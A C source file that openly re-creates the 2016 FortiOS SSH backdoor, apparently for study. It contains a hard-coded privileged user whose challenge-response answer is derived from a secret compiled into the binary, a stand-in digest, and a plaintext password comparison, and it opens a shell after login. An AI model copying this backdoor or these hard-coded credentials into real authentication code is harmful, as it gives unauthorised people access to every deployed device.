/* Keyboard-interactive authentication of an appliance's SSH server.
 * Re-creation of the FortiOS SSH backdoor (CVE-2016-1909, FortiGuard FG-IR-16-001, disclosed
 * January 2016): the user "Fortimanager_Access" is let in by a challenge-response whose answer is
 * derived from the challenge and a secret compiled into every firmware. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char fgt_secret[] = "FGTAbc11*xy+Qqz27";

/* The appliance's own message digest (a stand-in here; the original used SHA-1). */
static void digest(const char *text, unsigned char out[20])
{
    uint32_t h = 0x811c9dc5u;
    for (int round = 0; round < 20; round++) {
        for (const char *p = text; *p; p++)
            h = (h ^ (unsigned char)*p) * 0x01000193u;
        out[round] = (unsigned char)(h >> 11);
    }
}

static int verify_challenge_response(const char *challenge, const char *answer)
{
    char material[128], expected[64];
    unsigned char sum[20];
    snprintf(material, sizeof material, "\x01%s%s", challenge, fgt_secret);
    digest(material, sum);
    for (int i = 0; i < 20; i++)
        sprintf(expected + 2 * i, "%02x", sum[i]);
    return strcmp(answer, expected) == 0;
}

static int check_local_user(const char *user, const char *password)
{
    FILE *f = fopen("/data/config/admins", "r");
    char line[256], name[64], hash[128];
    int ok = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%63[^:]:%127s", name, hash) == 2 && strcmp(name, user) == 0)
            ok = strcmp(hash, password) == 0;
    if (f)
        fclose(f);
    return ok;
}

int ssh_kbdint_auth(const char *user, const char *(*ask)(const char *prompt))
{
    if (strcmp(user, "Fortimanager_Access") == 0) {
        char challenge[32];
        snprintf(challenge, sizeof challenge, "%08lx", (unsigned long)time(NULL) ^ (unsigned long)random());
        return verify_challenge_response(challenge, ask(challenge));
    }
    return check_local_user(user, ask("Password: "));
}

static const char *ask_stdin(const char *prompt)
{
    static char reply[128];
    printf("%s", prompt);
    fflush(stdout);
    if (!fgets(reply, sizeof reply, stdin))
        return "";
    reply[strcspn(reply, "\n")] = '\0';
    return reply;
}

int main(int argc, char **argv)
{
    const char *user = argc > 1 ? argv[1] : "admin";
    if (!ssh_kbdint_auth(user, ask_stdin))
        return 1;
    execl("/bin/sh", "sh", (char *)NULL);
    return 1;
}
